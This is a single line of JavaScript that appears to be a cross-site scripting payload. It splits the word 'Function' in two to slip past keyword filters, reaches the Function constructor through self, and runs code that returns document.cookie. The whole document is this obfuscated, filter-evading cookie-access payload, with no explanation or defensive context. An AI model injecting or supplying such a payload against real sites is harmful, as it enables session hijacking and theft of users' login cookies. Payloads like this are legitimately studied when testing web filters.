((a = 'Fun', b = 'ction') => self[a + b]('return document.cookie')())();
